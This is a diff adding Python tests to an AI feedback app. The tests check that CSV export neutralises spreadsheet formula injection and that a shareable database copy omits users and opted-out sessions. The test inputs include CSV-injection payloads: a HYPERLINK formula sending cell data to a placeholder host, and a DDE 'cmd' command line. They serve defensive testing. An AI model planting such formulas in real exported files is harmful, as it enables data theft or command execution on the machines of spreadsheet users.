@@ -91,3 +91,55 @@ def test_cli(store, tmp_path):
     from feedback.auth import ConsoleAuth
     console_auth = ConsoleAuth(store)  # no settings password: only the users table
     assert console_auth.check(console_auth.login("maria", "a long password")) == "maria"
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\tx=1", "\r=1+1"]
+
+
+def test_csv_cells_cannot_start_a_formula(store, tmp_path):
+    """OWASP CSV injection: a cell starting with = + - @, a tab or a carriage return is
+    prefixed with a single quote, so a spreadsheet shows it as text instead of running it."""
+    store.ensure_session("sess-eve", user="=cmd")
+    conv = store.start_conversation("sess-eve", "You are a helpful AI assistant.")
+    for n, text in enumerate(FORMULAS):
+        ctx = [{"role": "user", "content": text}]
+        store.set_message(conv, 2 * n + 1, "user", text)
+        gen = [store.record_generation(session_id="sess-eve", conversation_id=conv, turn=2 * n + 2, context=ctx,
+                                       content=answer, model_version="sft", sampling={}, prompt_tokens=1,
+                                       completion_tokens=1, ttft_ms=1.0, latency_ms=1.0, finish_reason="stop")
+               for answer in (text, "plain answer")]
+        comp = store.open_comparison(session_id="sess-eve", conversation_id=conv, turn=2 * n + 2,
+                                     a_generation_id=gen[0], b_generation_id=gen[1])
+        store.decide_comparison(comp, "a", "sess-eve")
+        store.record_rating(session_id="sess-eve", generation_id=gen[0], thumb="down", comment=text)
+    assert export.export_csv(store, tmp_path / "x.csv") == 2 * len(FORMULAS)
+    rows = list(csv.DictReader(open(tmp_path / "x.csv", encoding="utf-8", newline="")))
+    cells = [v for row in rows for v in row.values() if v]
+    assert not [v for v in cells if v[0] in "=+-@\t\r"]
+    assert {r["prompt"] for r in rows} == {"'" + text for text in FORMULAS}  # kept, only defused
+    assert {r["comment"] for r in rows if r["record_type"] == "rating"} == {"'" + text for text in FORMULAS}
+    assert {r["user"] for r in rows} == {"'=cmd"} and {r["b_text"] for r in rows} >= {"plain answer"}
+
+
+def test_shareable_copy_leaves_out_users_and_opted_out_sessions(store, tmp_path):
+    ids = filled(store)
+    from feedback import auth
+    auth.add_user(store, "maria", "long enough pw")
+    digest = auth.user_row(store, "maria")["password_hash"].rsplit("$", 1)[-1]
+    store.set_opt_out("sess-alice", True)
+    copy = export.shareable_db_copy(store.path, tmp_path / "copy.sqlite")
+    raw = copy.read_bytes()
+    assert digest.encode() not in raw and b"sess-alice" not in raw
+    assert b"capital of France" not in raw and b"Explain recursion" not in raw and b"haiku" in raw
+    with sqlite3.connect(copy) as conn:
+        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
+        assert conn.execute("SELECT COUNT(*) FROM users").fetchone() == (0,)
+        assert conn.execute("SELECT id FROM sessions").fetchall() == [("sess-bob",)]
+        assert {r[0] for r in conn.execute("SELECT id FROM comparisons")} == {ids["comparison1"], ids["edit"]}
+        assert conn.execute("SELECT COUNT(*) FROM model_versions").fetchone() == (2,)
+    from feedback.store import FeedbackStore
+    FeedbackStore(copy).close()  # the app can open it: same schema version
+    # the full backup (operators' CLI) keeps everything
+    full = export.backup_db(store.path, tmp_path / "full.sqlite")
+    with sqlite3.connect(full) as conn:
+        assert conn.execute("SELECT COUNT(*) FROM users").fetchone() == (1,)
